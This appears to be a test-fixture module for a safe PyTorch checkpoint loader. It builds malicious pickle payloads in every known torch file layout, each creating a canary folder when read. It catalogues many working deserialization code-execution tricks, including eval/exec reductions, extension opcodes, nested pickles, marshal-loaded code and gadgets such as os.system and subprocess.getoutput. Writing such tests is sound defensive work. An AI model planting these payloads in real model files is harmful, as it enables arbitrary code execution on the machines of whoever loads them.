"""Torch files that try to run something when they are read, with every trick that is known.

Each program makes the folder named by CANARY where it is executed.
"""

from __future__ import annotations

import copyreg
import gzip
import io
import marshal
import os
import struct
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

EXTENSION = 0xF0
copyreg.add_extension("os", "mkdir", EXTENSION)


def text(value: str) -> bytes:
    """An instruction that puts a text on the stack."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def called(module: str, name: str, *arguments: bytes) -> bytes:
    """A call by the classic instructions GLOBAL and REDUCE."""
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR"


def programs(canary: Path) -> dict[str, bytes]:
    """By trick: the whole program. The result is often not even a table."""
    folder = text(str(canary))
    code = text(f"import os; os.mkdir({str(canary)!r})")
    expression = text(f"__import__('os').mkdir({str(canary)!r})")
    begin, end = b"\x80\x04", b"."
    made = called("os", "mkdir", folder)
    table = b"}(" + text("string_to_param") + b"}(" + text("*")
    return {
        "REDUCE": begin + made + end,
        "REDUCE of eval": begin + called("builtins", "eval", expression) + end,
        "REDUCE of exec": begin + called("builtins", "exec", code) + end,
        "protocol 0": b"cos\nmkdir\n(S'" + str(canary).encode() + b"'\ntR.",
        "STACK_GLOBAL": begin + text("os") + text("mkdir") + b"\x93" + folder + b"\x85R" + end,
        "INST": begin + b"(" + folder + b"ios\nmkdir\n" + end,
        "OBJ": begin + b"(cos\nmkdir\n" + folder + b"o" + end,
        "partial": begin + called("functools", "partial", b"cos\nmkdir\n", folder) + b")R" + end,
        "map": begin
        + called(
            "builtins", "list", called("builtins", "map", b"cos\nmkdir\n", b"(" + folder + b"t")
        )
        + end,
        "getattr": begin
        + called("builtins", "getattr", called("builtins", "__import__", text("os")), text("mkdir"))
        + folder
        + b"\x85R"
        + end,
        "importlib": begin
        + called(
            "builtins", "getattr", called("importlib", "import_module", text("os")), text("mkdir")
        )
        + folder
        + b"\x85R"
        + end,
        "methodcaller": begin
        + called("operator", "methodcaller", text("mkdir"), folder)
        + b"("
        + called("builtins", "__import__", text("os"))
        + b"tR"
        + end,
        "timeit": begin
        + called("timeit", "timeit", text("0"), code, b"ctime\nperf_counter\n", b"K\x01")
        + end,
        "after a harmless call": begin
        + called("code", "InteractiveInterpreter")
        + b"0"
        + called("builtins", "exec", code)
        + end,
        "in a table": begin + b"}" + text("a") + made + b"s" + end,
        "in a key": begin + b"}" + made + b"K\x01s" + end,
        "in the vectors": begin + table + made + b"uu" + end,
        "in a popped value": begin + made + b"0}" + end,
        "in the memo": begin + made + b"\x940h\x00" + end,
        "as a storage": begin
        + b"("
        + text("storage")
        + made
        + text("0")
        + text("cpu")
        + b"K\x01tQ.",
        "before a second program": begin + made + b"0}." + begin + made + end,
        "in a parameter": begin
        + called(
            "torch._utils",
            "_rebuild_parameter",
            made,
            b"\x88",
            called("collections", "OrderedDict"),
        )
        + end,
        "in a tensor's shape": begin
        + called("torch._utils", "_rebuild_tensor_v2", made, b"K\x00", b")", b")", b"\x89", b"N")
        + end,
        "in an inert value": begin + called("numpy", "dtype", made) + end,
        "BUILD": begin
        + called("collections", "OrderedDict")
        + b"}"
        + text("a")
        + made
        + b"sb"
        + end,
        "NEWOBJ": begin + b"cfunctools\npartial\n(cos\nmkdir\n" + folder + b"t\x81)R" + end,
        "NEWOBJ_EX": begin + b"cfunctools\npartial\n(cos\nmkdir\n" + folder + b"t}\x92)R" + end,
        "protocol 2 long": b"\x80\x02" + made + end,
        "FRAME": begin + b"\x95" + struct.pack("<Q", len(made) + 1) + made + end,
        "broken behind the call": begin + made + b"\xff",
        "EXT1": begin + b"\x82" + bytes([EXTENSION]) + folder + b"\x85R" + end,
        "EXT4": begin + b"\x84" + struct.pack("<i", EXTENSION) + folder + b"\x85R" + end,
        "__setstate__ by BUILD": begin
        + called("code", "InteractiveInterpreter")
        + b"}"
        + text("__setstate__")
        + b"cos\nmkdir\nsb"
        + folder
        + b"b"
        + end,
        "a dotted name": begin + text("os") + text("path.os.mkdir") + b"\x93" + folder + b"\x85R.",
        "a method's name": begin
        + called("pathlib", "Path.mkdir", called("pathlib", "Path", folder))
        + end,
        "a pickle in the pickle": begin + called("pickle", "loads", blob(begin + made + end)) + end,
        "a name to resolve": begin
        + called("pkgutil", "resolve_name", text("os:mkdir"))
        + folder
        + b"\x85R"
        + end,
        "code by marshal": begin
        + called("types", "FunctionType", called("marshal", "loads", compiled(canary)), b"}")
        + b")R"
        + end,
    } | {
        f"{module}.{name}": begin + called(module, name, *arguments) + end
        for module, name, arguments in gadgets(canary)
    }


def gadgets(canary: Path) -> list[tuple[str, str, tuple[bytes, ...]]]:
    """Functions of Python, numpy and torch that run what they are given, with arguments."""
    folder = text(str(canary))
    code = text(f"import os; os.mkdir({str(canary)!r})")
    expression = text(f"__import__('os').mkdir({str(canary)!r})")
    return [
        (os.mkdir.__module__, "mkdir", (folder,)),
        ("os", "makedirs", (folder,)),
        ("os", "system", (text(f'mkdir "{canary}"'),)),
        ("subprocess", "getoutput", (text(f'mkdir "{canary}"'),)),
        ("runpy", "_run_code", (code, b"}")),
        ("cProfile", "run", (code,)),
        ("profile", "run", (code,)),
        ("numpy.f2py.crackfortran", "myeval", (expression, b"}")),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", (code, b"}", b"}")),
    ]


def blob(content: bytes) -> bytes:
    """An instruction that puts bytes on the stack."""
    return b"B" + struct.pack("<I", len(content)) + content


def compiled(canary: Path) -> bytes:
    """Code that makes the canary's folder, as marshal writes it."""
    code = compile(f"import os; os.mkdir({str(canary)!r})", "x", "exec")
    return blob(marshal.dumps(code))


def in_zip(program: bytes, path: Path, **more: bytes) -> Path:
    """A torch file of today's layout with this program."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", program)
        archive.writestr("archive/version", b"3\n")
        archive.writestr("archive/byteorder", b"little")
        for name, content in more.items():
            archive.writestr(f"archive/data/{name}", content)
    return path


def in_legacy(program: bytes, path: Path, at: int = 3) -> Path:
    """A torch file of the old layout with this program in place of its `at`-th."""
    magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
    facts = b"\x80\x02}" + text("little_endian") + b"\x88s."
    parts = [magic, b"\x80\x02M\xe9\x03.", facts, b"\x80\x02}.", b"\x80\x02]."]
    parts[at] = program
    path.write_bytes(b"".join(parts))
    return path


def plain(program: bytes, path: Path) -> Path:
    """Nothing but a pickle."""
    path.write_bytes(program)
    return path


def zipped(program: bytes, path: Path) -> Path:
    """A pickle that a careless reader unpacks on the way."""
    path.write_bytes(gzip.compress(program))
    return path


def in_tar(program: bytes, path: Path) -> Path:
    """The layout of torch's first releases."""
    with tarfile.open(path, "w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            entry = tarfile.TarInfo(name)
            entry.size = len(program)
            archive.addfile(entry, io.BytesIO(program))
    return path


def in_script(program: bytes, path: Path) -> Path:
    """A script module: its constants are a pickle too, and it brings code along."""
    in_zip(b"\x80\x02}.", path)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("archive/constants.pkl", program)
        archive.writestr("archive/code/__torch__.py", "import os\n")
    return path


LAYOUTS: Mapping[str, Callable[[bytes, Path], Path]] = {
    "zip": in_zip,
    "legacy": in_legacy,
    "magic number": lambda program, path: in_legacy(program, path, 1),
    "facts": lambda program, path: in_legacy(program, path, 2),
    "keys": lambda program, path: in_legacy(program, path, 4),
    "plain": plain,
    "gzip": zipped,
    "tar": in_tar,
    "script": in_script,
}
"""Where a program may stand in a file."""
